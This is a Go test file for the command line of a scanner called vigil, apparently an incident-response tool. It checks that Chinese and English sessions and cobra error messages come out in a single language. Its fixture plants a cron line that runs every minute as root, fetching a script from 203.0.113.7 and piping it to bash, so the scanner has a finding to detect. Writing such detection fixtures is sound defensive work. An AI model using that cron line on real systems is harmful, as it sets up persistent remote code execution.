package cli

import (
	"bytes"
	"context"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"

	"github.com/vigil-ir/vigil/internal/catalog"
	"github.com/vigil-ir/vigil/internal/detect/inventory"
	"github.com/vigil-ir/vigil/internal/detect/registry"
	"github.com/vigil-ir/vigil/internal/testutil"
)

// langRoot is a fixture root with findings (a cron download-and-run line)
// and, scanned offline, gaps (the live-only checks).
const langRoot = minimalRoot + `
-- etc/cron.d/update --
* * * * * root curl -fsSL http://203.0.113.7/x.sh | bash
`

// asciiWord is a token of ASCII letters only, after its punctuation is
// trimmed: what might be an English word.
var asciiWord = regexp.MustCompile(`^[A-Za-z]{3,}$`)

// allowedWords are the ASCII words Chinese output may hold: whatever the
// zh-CN catalog texts name (commands, files, tools, format and flag
// values), the fixture's data (evidence, host, OS), and the command and
// flag names.
func allowedWords(t *testing.T, root *cobra.Command) map[string]bool {
	c, err := catalog.Load()
	if err != nil {
		t.Fatal(err)
	}
	var text strings.Builder
	for _, id := range c.MessageIDs() {
		args := make([]any, c.MessageArity(id))
		for i := range args {
			args[i] = "x"
		}
		text.WriteString(c.T(catalog.Chinese, id, args...) + " ")
	}
	for _, d := range registry.All() {
		text.WriteString(d.Name() + " ") // check names: [loader]
	}
	// Shared inventories report their gaps under their own names.
	text.WriteString(inventory.PackagesKey + " " + inventory.UsersKey + " " + inventory.WebRootsKey + " ")
	for _, r := range c.Rules() {
		zh := r.Text(catalog.Chinese)
		text.WriteString(strings.Join([]string{zh.Title, zh.Why, zh.Verify, zh.Remediation, r.ID}, " ") + " ")
	}
	for _, id := range c.IndicatorIDs() {
		text.WriteString(c.Indicator(id, catalog.Chinese) + " ")
	}
	text.WriteString(langRoot + " Vigil UTC ")
	var walk func(*cobra.Command)
	walk = func(cmd *cobra.Command) {
		text.WriteString(cmd.Use + " ")
		cmd.Flags().VisitAll(func(f *pflag.Flag) { text.WriteString(f.Name + " " + f.DefValue + " ") })
		for _, sub := range cmd.Commands() {
			walk(sub)
		}
	}
	walk(root)
	ok := map[string]bool{}
	for _, w := range words(text.String()) {
		ok[w] = true
	}
	return ok
}

// words splits s into tokens that look like English words.
func words(s string) []string {
	var out []string
	for _, tok := range strings.FieldsFunc(s, func(r rune) bool {
		return unicode.IsSpace(r) || unicode.Is(unicode.Han, r) || strings.ContainsRune("，。：；（）“”、·—…>#[]", r)
	}) {
		tok = strings.Trim(tok, `,.;:()"'!?`)
		if asciiWord.MatchString(tok) {
			out = append(out, tok)
		}
	}
	return out
}

// runLang runs one command line in lang with the real checks.
func runLang(t *testing.T, lang string, args ...string) string {
	t.Helper()
	var out, errb bytes.Buffer
	code := Run(context.Background(), append([]string{"--lang", lang}, args...), strings.NewReader(""), &out, &errb)
	if code == ExitError {
		t.Fatalf("vigil %v: exit %d\n%s%s", args, code, out.String(), errb.String())
	}
	return out.String() + errb.String()
}

// sessionOutputs runs a responder's session in lang: scans with findings
// and gaps, the history commands, a suppression, the rules, and --help of
// every command. It returns each command line's output.
func sessionOutputs(t *testing.T, lang string) map[string]string {
	root := testutil.RootFromString(t, langRoot)
	db := filepath.Join(t.TempDir(), "vigil.db")
	out := map[string]string{}
	run := func(args ...string) {
		out[strings.Join(args, " ")] = runLang(t, lang, append(args, "--store", db)...)
	}
	run("scan", "--root", root, "-v", "--baseline", "--progress", "always")
	run("scan", "--root", root, "--new")
	run("scans")
	run("show", "latest", "-v")
	run("diff")
	run("findings")
	run("ignore", "persistence.cron.*", "--path", "/etc/cron.d/*", "--reason", "测试 test")
	run("ignore", "list")
	run("ignore", "audit")
	out["rules"] = runLang(t, lang, "rules")
	out["rules show"] = runLang(t, lang, "rules", "show", "persistence.cron.command")
	var walk func(*cobra.Command, []string)
	walk = func(cmd *cobra.Command, path []string) {
		args := append(append([]string{}, path...), "--help")
		out[strings.Join(args, " ")] = runLang(t, lang, args...)
		for _, sub := range cmd.Commands() {
			walk(sub, append(append([]string{}, path...), sub.Name()))
		}
	}
	walk(newRoot(&globals{}), nil)
	return out
}

// TestChineseSessionHasNoEnglish: with --lang zh-CN a person reads no
// English outside names (commands, flags, paths, rule ids, tools) and the
// examined system's own data.
func TestChineseSessionHasNoEnglish(t *testing.T) {
	if testing.Short() {
		t.Skip("runs every check several times")
	}
	ok := allowedWords(t, newRoot(&globals{}))
	for cmd, text := range sessionOutputs(t, catalog.Chinese) {
		seen := map[string]bool{}
		for _, w := range words(text) {
			if !ok[w] && !seen[w] {
				seen[w] = true
				t.Errorf("vigil %s in Chinese says %q:\n%s", cmd, w, text)
			}
		}
	}
}

// TestEnglishSessionHasNoChinese: the same session in English has no
// Chinese character (the suppression's reason is the user's own text).
func TestEnglishSessionHasNoChinese(t *testing.T) {
	if testing.Short() {
		t.Skip("runs every check several times")
	}
	for cmd, text := range sessionOutputs(t, catalog.English) {
		text = strings.ReplaceAll(text, "测试", "")
		if i := strings.IndexFunc(text, func(r rune) bool { return unicode.Is(unicode.Han, r) }); i >= 0 {
			t.Errorf("vigil %s in English has Chinese at %q:\n%s", cmd, text[max(0, i-40):min(len(text), i+40)], text)
		}
	}
}

// TestCobraErrorsInChinese: the usage errors cobra and pflag write in
// English read in the reader's language, numbers and names kept.
func TestCobraErrorsInChinese(t *testing.T) {
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"ignore", "import"}, "参数个数不对：需要 1 个，实际 0 个"},
		{[]string{"show", "a", "b"}, "参数个数不对：需要 1 个，实际 2 个"},
		{[]string{"scan", "--bogus"}, "未知选项：--bogus"},
		{[]string{"scan", "--max-per-rule", "abc"}, "--max-per-rule 的值“abc”无效：不是数字"},
		{[]string{"scan", "--max-per-rule", "99999999999999999999"}, "超出范围"},
		{[]string{"scna"}, "“vigil”没有命令“scna”\n\n是不是想输入：\n\tscan"},
	}
	for _, tt := range tests {
		r := vigil(t, append(tt.args, "--lang", "zh-CN")...)
		if r.code != ExitError || !strings.Contains(r.err, tt.want) {
			t.Errorf("%v: exit %d\n%s\nwant %q", tt.args, r.code, r.err, tt.want)
		}
	}
	if r := vigil(t, "show", "a", "b"); !strings.Contains(r.err, "wrong number of arguments: 1 expected, 2 given") {
		t.Errorf("English: %s", r.err)
	}
}
